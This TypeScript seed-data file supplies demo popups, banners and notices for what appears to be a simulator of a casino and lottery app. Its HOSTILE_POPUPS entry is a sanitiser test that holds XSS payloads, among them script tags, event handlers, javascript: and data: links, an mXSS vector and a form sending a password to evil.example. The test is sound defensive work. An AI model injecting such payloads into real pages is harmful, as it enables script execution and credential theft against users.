import { DEMO_PROMOTIONS } from './promotions';
import type { AnnouncementSeed, PopupSeed } from './types';

/** Where the simulator serves a merchant's banner images (serving/assets.ts draws them from the banner's title). */
function bannerImage(merchant: string, file: string): string {
  return `/sim-assets/${merchant}/banners/${file}`;
}

/**
 * Popup content exercises the client's sanitiser and link interception: an in-app link, an
 * address outside, and simple markup.
 */
const DEMO_POPUPS: readonly PopupSeed[] = [
  {
    id: 201,
    execution: 'B',
    title: 'Welcome to Lucky Star',
    content:
      '<p>Sign up today and claim your <b>welcome bonus</b>.</p>' +
      '<p><a href="/m/inviteFriends">Invite your friends</a> or read the <a href="https://partner.example.com/rules">partner rules</a>.</p>',
  },
  {
    id: 202,
    execution: 'B',
    promotionType: 'REGISTER',
    title: 'Novice tasks',
    content: '<p>New here? Finish the <i>novice tasks</i> for free spins.</p>',
  },
  {
    id: 203,
    execution: 'A',
    promotionType: 'DEPOSIT',
    title: 'Weekly deposit bonus',
    content: '<p>Deposit this week and get <b>10%</b> back.</p><ul><li>Minimum ₱100</li><li>Up to ₱5,000</li></ul>',
  },
  {
    id: 204,
    execution: 'A',
    promotionType: 'REFERRAL',
    title: 'Invite and earn',
    content: '<p>Every friend who joins earns you a reward.</p>',
  },
  {
    id: 205,
    execution: 'F',
    promotionType: 'LOGIN',
    title: 'Your first-login gift',
    content: '<p>Thanks for joining! Sign in daily to collect your gift.</p>',
  },
];

/** demo2's list must be read to the end, and shows even to a player who hid popups before. */
const DEMO2_POPUPS: readonly PopupSeed[] = [
  {
    id: 301,
    execution: 'B',
    forceRead: true,
    forcePopup: true,
    title: 'Terms updated',
    content: '<p>Our terms of play have changed. Please read every page.</p>',
  },
  { id: 302, execution: 'B', forceRead: true, title: 'Responsible gaming', content: '<p>Set limits that suit you.</p>' },
  {
    id: 303,
    execution: 'A',
    forceRead: true,
    promotionType: 'UPGRADE_BONUS',
    title: 'VIP upgrade bonus',
    content: '<p>Level up for a bonus.</p>',
  },
];

/**
 * An announcement list that tries every trick (POST /__sim/announcements { preset: 'hostile' }):
 * scripts, event handlers, script and data addresses, SVG and form payloads, a frame. The
 * client must run none of them; each would set `window.__pwned`.
 */
export const HOSTILE_POPUPS: readonly PopupSeed[] = [
  {
    id: 901,
    execution: 'B',
    title: 'Hostile announcement',
    content: [
      '<p id="hostile-text">Nothing here may run.</p>',
      '<script>window.__pwned = "script"</script>',
      '<img src="x" onerror="window.__pwned = \'img\'">',
      '<a href="javascript:window.__pwned = \'href\'">javascript link</a>',
      '<a href="data:text/html,<script>parent.__pwned=1</script>">data link</a>',
      '<svg onload="window.__pwned = \'svg\'"><circle r="5"></circle><script>window.__pwned = "svg-script"</script></svg>',
      '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
      '<iframe src="javascript:parent.__pwned = \'iframe\'"></iframe>',
      '<div style="background:url(javascript:window.__pwned=1)" onmouseover="window.__pwned = \'hover\'">hover me</div>',
      '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = \'mxss\'"></style></mglyph></table></mtext></math>',
    ].join(''),
  },
];

export const DEMO_ANNOUNCEMENTS: AnnouncementSeed = {
  banners: [
    {
      bannerId: 11,
      groupName: 'home',
      title: 'Welcome bonus 100%',
      url: bannerImage('demo', 'home-welcome.svg'),
      linkageType: 'P',
      linkage: '101',
      redirectPromotionId: 101,
    },
    {
      bannerId: 12,
      groupName: 'home',
      title: 'Vietnam lottery draws daily',
      url: bannerImage('demo', 'home-lottery.svg'),
      linkageType: 'G',
      linkage: 'VNHANOI',
      gameType: 'LOTT',
      vendor: 'TCG_LOTTO_VN',
    },
    {
      bannerId: 13,
      groupName: 'home',
      title: 'Partner news',
      url: bannerImage('demo', 'home-partner.svg'),
      linkageType: 'URL',
      linkage: 'partner.example.com/news?from=banner',
      externalLink: true,
    },
    {
      bannerId: 14,
      groupName: 'home',
      title: 'Invite friends',
      url: bannerImage('demo', 'home-invite.svg'),
      linkageType: 'URL',
      linkage: '/m/inviteFriends',
    },
    { bannerId: 21, groupName: 'm_popup1', title: 'Welcome gift', url: bannerImage('demo', 'welcome-gift-v1.svg') },
    { bannerId: 22, groupName: 'm_popup2', title: 'Daily lucky draw', url: bannerImage('demo', 'lucky-draw-v1.svg') },
  ],
  popup: DEMO_POPUPS,
  promotion: DEMO_PROMOTIONS,
  // The marquee line: plain text and simple HTML alike (the full notice opens sanitised), one of them long.
  player: [
    { id: 401, title: 'Maintenance notice', content: 'Games by one vendor pause on Sunday 02:00–04:00.' },
    {
      id: 402,
      title: 'Weekend cashback',
      content:
        '<p>Play any slot this weekend and get <b>5% cashback</b> on Monday.</p><p>See <a href="/m/activity">Promotions</a> for the rules.</p>',
    },
    {
      id: 403,
      title: 'Play responsibly',
      content:
        'Set a deposit limit that suits you under My account. Gaming is for adults only; if it stops being fun, our customer service is there for you around the clock.',
    },
  ],
};

export const DEMO2_ANNOUNCEMENTS: AnnouncementSeed = {
  banners: [
    {
      bannerId: 31,
      groupName: 'home',
      title: 'Golden Dragon jackpot',
      url: bannerImage('demo2', 'home-jackpot.svg'),
      linkageType: 'URL',
      linkage: '/m/rewardCenter',
    },
  ],
  popup: DEMO2_POPUPS,
  promotion: [],
  player: [{ id: 411, title: 'Thông báo', content: 'Xổ số miền Bắc quay thưởng lúc 18:15 mỗi ngày.' }],
};
